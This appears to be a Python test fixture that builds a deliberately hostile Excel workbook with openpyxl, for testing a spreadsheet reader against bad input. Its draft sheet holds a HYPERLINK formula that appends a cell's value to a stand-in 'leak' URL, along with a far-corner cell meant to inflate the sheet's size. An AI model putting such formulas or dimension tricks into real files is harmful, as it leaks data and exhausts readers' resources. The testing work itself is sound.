"""Hostile workbooks as a spreadsheet program writes them (openpyxl), beside the raw XML ones of
`hostile.py`."""

from __future__ import annotations

from pathlib import Path

from openpyxl import Workbook


def hostile_first_xlsx(path: Path) -> Path:
    """A draft sheet first that no reader should build (a cell at the last cell of a sheet, so a
    dimension claiming the whole sheet; formulas; merged junk), then notes, then the list."""
    wb = Workbook()
    draft = wb.active
    draft.title = "Brouillon"
    draft["A1"] = "=SUM(B2:B9)"
    draft["B2"] = '=HYPERLINK("http://x.example/?leak="&C2,"Voir")'
    draft.merge_cells("A3:F40")
    draft["XFD1048576"] = "x"
    notes = wb.create_sheet("Notes")
    notes.append(["À rappeler la veille"])
    people = wb.create_sheet("Inscrits")
    people.append(["Nom", "Prénom", "E-mail"])
    people.append(["Chraïbi", "Leïla", "leila@medias24.ma"])
    people.append(["Ouazzani", "Nizar", "nizar@ouazzani-conseil.ma"])
    wb.save(path)
    return path
